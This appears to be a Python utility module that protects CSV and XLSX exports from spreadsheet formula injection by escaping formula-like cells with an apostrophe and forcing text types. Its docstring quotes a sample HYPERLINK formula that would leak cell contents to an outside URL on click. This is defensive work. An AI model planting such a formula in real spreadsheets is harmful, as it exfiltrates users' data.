"""Text in spreadsheet cells that a spreadsheet never runs.

Model output and imported records are untrusted text, and a spreadsheet reads a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula:
``=HYPERLINK("http://…?leak="&A1, "click")`` would send the sheet's cells away on a click.
XLSX cells are written with the text type, whatever they start with. CSV has no types, so such a
cell gets a leading apostrophe, as OWASP's "CSV injection" advice describes; import takes it off
again, so every export → import round trip gives back the same text. JSONL keeps text exact and is
the format for data; CSV and XLSX are for reading in a spreadsheet.
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _guarded(text: str) -> bool:
    """Whether ``text``, with any apostrophes in front taken off, starts like a formula."""
    return text.lstrip("'")[:1] in FORMULA_START


def csv_cell(value):
    """A value for a CSV cell: text that a spreadsheet would run gets an apostrophe in front (text
    that already starts with apostrophes before such a character gets one more, so that import
    can tell them apart); numbers and other text as they are."""
    return "'" + value if isinstance(value, str) and _guarded(value) else value


def from_csv_cell(text: str) -> str:
    """The text ``csv_cell`` was given: one leading apostrophe off where it put one."""
    return text[1:] if text[:1] == "'" and _guarded(text) else text


def append_text_row(sheet, row: list) -> None:
    """Append ``row`` to an openpyxl sheet with every text cell typed as text, never a formula
    (openpyxl makes any string that starts with ``=`` a formula)."""
    sheet.append(row)
    for cell, value in zip(sheet[sheet.max_row], row):
        if isinstance(value, str):
            cell.value = value
            cell.data_type = "s"
